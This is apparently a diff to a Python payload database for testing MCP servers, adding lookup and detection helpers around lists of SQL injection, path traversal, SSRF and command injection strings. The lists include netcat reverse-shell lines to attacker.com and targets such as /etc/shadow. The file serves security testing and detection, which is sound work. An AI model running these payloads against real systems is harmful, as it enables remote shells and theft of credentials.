@@ -3,8 +3,19 @@ Comprehensive attack payload database for MCP vulnerability testing.
 Contains various payloads for different types of security vulnerabilities.
 """
 
+import os
+import random
+import re
+import sys
+from bisect import bisect_right
+from types import MappingProxyType
+from urllib.parse import unquote
+
+# Shared generator for payload sampling
+_RNG = random.Random()
+
 # SQL Injection Payloads
-SQL_INJECTION_PAYLOADS = [
+SQL_INJECTION_PAYLOADS = (
     # Basic SQL injection
     "test');--",
     "test'--",
@@ -37,10 +48,10 @@ SQL_INJECTION_PAYLOADS = [
     "' OR 1=1 ORDER BY 1--",
     "' OR 1=1 GROUP BY 1--",
     "' OR 1=1 HAVING 1=1--",
-]
+)
 
 # Path Traversal Payloads
-PATH_TRAVERSAL_PAYLOADS = [
+PATH_TRAVERSAL_PAYLOADS = (
     # Unix/Linux paths
     "../../../etc/passwd",
     "../../../../etc/shadow",
@@ -79,10 +90,10 @@ PATH_TRAVERSAL_PAYLOADS = [
     "..%252f..%252f..%252fetc%252fpasswd",
     "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
     "..%c1%9c..%c1%9c..%c1%9cetc%c1%9cpasswd",
-]
+)
 
 # Command Injection Payloads
-COMMAND_INJECTION_PAYLOADS = [
+COMMAND_INJECTION_PAYLOADS = (
     # Basic command injection
     "whoami",
     "id",
@@ -123,10 +134,10 @@ COMMAND_INJECTION_PAYLOADS = [
     "uname -a; ps aux",
     "echo 'test' | nc -e /bin/sh attacker.com 4444",
     "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc attacker.com 4444 >/tmp/f",
-]
+)
 
 # SSRF (Server-Side Request Forgery) Payloads
-SSRF_PAYLOADS = [
+SSRF_PAYLOADS = (
     # Localhost attacks
     "http://localhost:22",
     "http://127.0.0.1:22",
@@ -170,7 +181,6 @@ SSRF_PAYLOADS = [
     "dict://127.0.0.1:11211",
     "sftp://127.0.0.1:22",
     # IPv6 addresses
-    "http://[::1]:22",
     "http://[::1]:80",
     "http://[::1]:443",
     # DNS rebinding
@@ -182,7 +192,6 @@ SSRF_PAYLOADS = [
     "http://127.0.0.1:2",
     "http://127.0.0.1:3",
     "http://127.0.0.1:21",
-    "http://127.0.0.1:22",
     "http://127.0.0.1:23",
     "http://127.0.0.1:25",
     "http://127.0.0.1:53",
@@ -196,10 +205,10 @@ SSRF_PAYLOADS = [
     "http://127.0.0.1:5432",
     "http://127.0.0.1:6379",
     "http://127.0.0.1:9200",
-]
+)
 
 # Environment Variable Names
-ENVIRONMENT_VARIABLES = [
+ENVIRONMENT_VARIABLES = (
     # Common sensitive variables
     "SECRET_KEY",
     "API_KEY",
@@ -232,7 +241,6 @@ ENVIRONMENT_VARIABLES = [
     "POSTGRES_PASSWORD",
     "MONGODB_PASSWORD",
     "REDIS_PASSWORD",
-    "DB_PASSWORD",
     "DATABASE_PASSWORD",
     # System variables
     "PATH",
@@ -269,10 +277,10 @@ ENVIRONMENT_VARIABLES = [
     "ENVIRONMENT",
     "DEBUG",
     "LOG_LEVEL",
-]
+)
 
 # Weak Cryptographic Algorithms
-WEAK_CRYPTO_ALGORITHMS = [
+WEAK_CRYPTO_ALGORITHMS = (
     "md5",
     "sha1",
     "sha224",
@@ -280,10 +288,10 @@ WEAK_CRYPTO_ALGORITHMS = [
     "md2",
     "crc32",
     "adler32",
-]
+)
 
 # Common File Extensions for Information Disclosure
-SENSITIVE_FILE_EXTENSIONS = [
+SENSITIVE_FILE_EXTENSIONS = (
     ".bak",
     ".backup",
     ".old",
@@ -322,10 +330,10 @@ SENSITIVE_FILE_EXTENSIONS = [
     ".svn",
     ".hg",
     ".bzr",
-]
+)
 
 # Common Sensitive Files
-SENSITIVE_FILES = [
+SENSITIVE_FILES = (
     # Unix/Linux
     "/etc/passwd",
     "/etc/shadow",
@@ -389,56 +397,263 @@ SENSITIVE_FILES = [
     "C:\\Windows\\Panther\\sysprep.xml",
     "C:\\Windows\\Panther\\unattend\\unattend.xml",
     "C:\\Windows\\Panther\\unattend\\sysprep.xml",
-    "C:\\Windows\\System32\\sysprep\\unattend.xml",
-    "C:\\Windows\\System32\\sysprep\\sysprep.xml",
-    "C:\\Windows\\System32\\sysprep\\Panther\\unattend.xml",
-    "C:\\Windows\\System32\\sysprep\\Panther\\sysprep.xml",
-    "C:\\Windows\\System32\\sysprep\\Panther\\unattend\\unattend.xml",
-    "C:\\Windows\\System32\\sysprep\\Panther\\unattend\\sysprep.xml",
-    "C:\\Windows\\Panther\\unattend.xml",
-    "C:\\Windows\\Panther\\sysprep.xml",
-    "C:\\Windows\\Panther\\unattend\\unattend.xml",
-    "C:\\Windows\\Panther\\unattend\\sysprep.xml",
-]
-
-# Attack payload collections organized by category
-ATTACK_PAYLOADS = {
-    "sql_injection": SQL_INJECTION_PAYLOADS,
-    "path_traversal": PATH_TRAVERSAL_PAYLOADS,
-    "command_injection": COMMAND_INJECTION_PAYLOADS,
-    "ssrf": SSRF_PAYLOADS,
-    "environment_vars": ENVIRONMENT_VARIABLES,
-    "weak_crypto": WEAK_CRYPTO_ALGORITHMS,
-    "sensitive_files": SENSITIVE_FILES,
-    "file_extensions": SENSITIVE_FILE_EXTENSIONS,
+)
+
+# Intern the short name lists so comparisons against interned candidates
+# can short-circuit on identity
+ENVIRONMENT_VARIABLES = tuple(map(sys.intern, ENVIRONMENT_VARIABLES))
+WEAK_CRYPTO_ALGORITHMS = tuple(map(sys.intern, WEAK_CRYPTO_ALGORITHMS))
+SENSITIVE_FILE_EXTENSIONS = tuple(map(sys.intern, SENSITIVE_FILE_EXTENSIONS))
+
+# Attack payload collections organized by category (read-only view)
+ATTACK_PAYLOADS = MappingProxyType(
+    {
+        "sql_injection": SQL_INJECTION_PAYLOADS,
+        "path_traversal": PATH_TRAVERSAL_PAYLOADS,
+        "command_injection": COMMAND_INJECTION_PAYLOADS,
+        "ssrf": SSRF_PAYLOADS,
+        "environment_vars": ENVIRONMENT_VARIABLES,
+        "weak_crypto": WEAK_CRYPTO_ALGORITHMS,
+        "sensitive_files": SENSITIVE_FILES,
+        "file_extensions": SENSITIVE_FILE_EXTENSIONS,
+    }
+)
+
+# Number of payloads per category, computed once at import
+_CATEGORY_SIZES = {
+    category: len(payloads) for category, payloads in ATTACK_PAYLOADS.items()
+}
+
+# Hashed membership index per category
+_PAYLOAD_SETS = {
+    category: frozenset(payloads)
+    for category, payloads in ATTACK_PAYLOADS.items()
+}
+
+# Categories each distinct payload string belongs to
+_PAYLOAD_CATEGORIES = {}
+for _category, _payloads in ATTACK_PAYLOADS.items():
+    for _payload in _payloads:
+        _PAYLOAD_CATEGORIES[_payload] = _PAYLOAD_CATEGORIES.get(
+            _payload, ()
+        ) + (_category,)
+del _category, _payloads, _payload
+
+# UTF-8 encoded payloads per category for byte-level scanning
+_CATEGORY_BYTES = {
+    category: tuple(p.encode("utf-8") for p in payloads)
+    for category, payloads in ATTACK_PAYLOADS.items()
 }
 
+# Single compiled alternation for weak algorithm names
+_WEAK_CRYPTO_RE = re.compile(
+    r"\b(?:" + "|".join(map(re.escape, WEAK_CRYPTO_ALGORITHMS)) + r")\b",
+    re.IGNORECASE,
+)
+
+# Trie over reversed extensions; "$" marks the end of an extension
+_EXT_TRIE = {}
+for _ext in SENSITIVE_FILE_EXTENSIONS:
+    _node = _EXT_TRIE
+    for _char in reversed(_ext):
+        _node = _node.setdefault(_char, {})
+    _node["$"] = _ext
+del _ext, _node, _char
+
+# Sorted path catalogs for longest-prefix searches
+_SENSITIVE_FILES_SORTED = tuple(sorted(SENSITIVE_FILES))
+_PATH_TRAVERSAL_SORTED = tuple(sorted(PATH_TRAVERSAL_PAYLOADS))
 
-def get_payloads_by_category(category: str) -> list:
+
+def _normalize_path(path: str) -> str:
+    """Fully URL-decode a path and fold separators and case."""
+    previous = None
+    while path != previous:
+        previous, path = path, unquote(path)
+    return path.replace("\\", "/").lower()
+
+
+# Decoded forms of every path traversal payload
+_NORMALIZED_TRAVERSAL = frozenset(
+    _normalize_path(p) for p in PATH_TRAVERSAL_PAYLOADS
+)
+
+# Multi-pattern matcher over every payload, built on first use
+_MATCHER = None
+
+
+def get_payloads_by_category(category: str) -> tuple:
     """Get payloads for a specific attack category."""
-    return ATTACK_PAYLOADS.get(category, [])
+    return ATTACK_PAYLOADS.get(category, ())
 
 
-def get_all_payloads() -> dict:
+def get_all_payloads() -> MappingProxyType:
     """Get all attack payloads organized by category."""
     return ATTACK_PAYLOADS
 
 
+def get_category_size(category: str) -> int:
+    """Get the number of payloads in a specific attack category."""
+    return _CATEGORY_SIZES.get(category, 0)
+
+
 def get_random_payloads(category: str, count: int = 5) -> list:
     """Get random payloads from a specific category."""
-    import random
-
     payloads = get_payloads_by_category(category)
     if not payloads:
         return []
-    return random.sample(payloads, min(count, len(payloads)))
+
+    # Partial Fisher-Yates: only shuffle the first `count` positions
+    n = _CATEGORY_SIZES[category]
+    k = min(count, n)
+    indices = list(range(n))
+    selected = []
+    for i in range(k):
+        j = _RNG.randrange(i, n)
+        indices[i], indices[j] = indices[j], indices[i]
+        selected.append(payloads[indices[i]])
+    return selected
+
+
+def _longest_prefix(sorted_keys: tuple, text: str):
+    """Find the longest key in sorted_keys that is a prefix of text."""
+    while text:
+        i = bisect_right(sorted_keys, text)
+        if i == 0:
+            return None
+        candidate = sorted_keys[i - 1]
+        if text.startswith(candidate):
+            return candidate
+        # Any shorter prefix key must also be a prefix of the common part
+        text = os.path.commonprefix((candidate, text))
+    return None
+
+
+def is_in_category(payload: str, category: str) -> bool:
+    """Check whether payload belongs to a specific attack category."""
+    payloads = _PAYLOAD_SETS.get(category)
+    return payloads is not None and payload in payloads
+
+
+def is_known_payload(text: str) -> bool:
+    """Check whether text is exactly one of the known payloads."""
+    return text in _PAYLOAD_CATEGORIES
+
+
+def is_path_traversal(path: str) -> bool:
+    """Check whether path decodes to a known path traversal payload."""
+    return _normalize_path(path) in _NORMALIZED_TRAVERSAL
+
+
+def has_weak_crypto(code: str) -> bool:
+    """Check whether code mentions a weak cryptographic algorithm."""
+    return _WEAK_CRYPTO_RE.search(code) is not None
+
+
+def classify_ext(path: str):
+    """Get the sensitive extension path ends with, or None."""
+    node = _EXT_TRIE
+    found = None
+    for char in reversed(path):
+        node = node.get(char.lower())
+        if node is None:
+            break
+        found = node.get("$", found)
+    return found
+
+
+def has_sensitive_ext(path: str) -> bool:
+    """Check whether path ends with a sensitive file extension."""
+    return classify_ext(path) is not None
+
+
+def is_sensitive_file(path: str) -> bool:
+    """Check whether path is a known sensitive file."""
+    return path in _PAYLOAD_SETS["sensitive_files"]
+
+
+def longest_sensitive_prefix(path: str):
+    """Get the longest sensitive file path that path starts with, or None."""
+    return _longest_prefix(_SENSITIVE_FILES_SORTED, path)
+
+
+def longest_traversal_prefix(text: str):
+    """Get the longest path traversal payload that text starts with, or None."""
+    return _longest_prefix(_PATH_TRAVERSAL_SORTED, text)
+
+
+def contains_category_payload(text, category: str) -> bool:
+    """
+    Check whether text contains any payload from a specific category.
+
+    Text is encoded once and scanned with bytes.find, which uses memchr to
+    skip ahead to candidate positions.
+    """
+    data = text if isinstance(text, bytes) else text.encode("utf-8")
+    return any(
+        data.find(payload) != -1 for payload in _CATEGORY_BYTES.get(category, ())
+    )
+
+
+def get_automaton():
+    """
+    Get a matcher that finds every payload in a single pass over the text.
+
+    Uses an Aho-Corasick automaton when pyahocorasick is installed and falls
+    back to one compiled regex alternation (longest payloads first) otherwise.
+    """
+    global _MATCHER
+    if _MATCHER is None:
+        try:
+            import ahocorasick
+        except ImportError:
+            _MATCHER = re.compile(
+                "|".join(
+                    re.escape(p)
+                    for p in sorted(_PAYLOAD_CATEGORIES, key=len, reverse=True)
+                )
+            )
+        else:
+            automaton = ahocorasick.Automaton()
+            for payload in _PAYLOAD_CATEGORIES:
+                automaton.add_word(payload, payload)
+            automaton.make_automaton()
+            _MATCHER = automaton
+    return _MATCHER
+
+
+def find_payloads(text: str) -> list:
+    """
+    Find known payloads occurring in text.
+
+    Returns (category, payload) pairs. The regex fallback reports
+    non-overlapping matches only.
+    """
+    matcher = get_automaton()
+    if isinstance(matcher, re.Pattern):
+        found = (m.group() for m in matcher.finditer(text))
+    else:
+        found = (payload for _, payload in matcher.iter(text))
+    return [
+        (category, payload)
+        for payload in found
+        for category in _PAYLOAD_CATEGORIES[payload]
+    ]
+
+
+def contains_payload(text: str) -> bool:
+    """Check whether text contains any known payload."""
+    matcher = get_automaton()
+    if isinstance(matcher, re.Pattern):
+        return matcher.search(text) is not None
+    return next(matcher.iter(text), None) is not None
 
 
 if __name__ == "__main__":
     # Display available categories
     print("Available attack payload categories:")
-    for category in ATTACK_PAYLOADS.keys():
-        print(f"  - {category}: {len(ATTACK_PAYLOADS[category])} payloads")
+    for category, size in _CATEGORY_SIZES.items():
+        print(f"  - {category}: {size} payloads")
 
     # Show some example payloads
     print("\nExample SQL injection payloads:")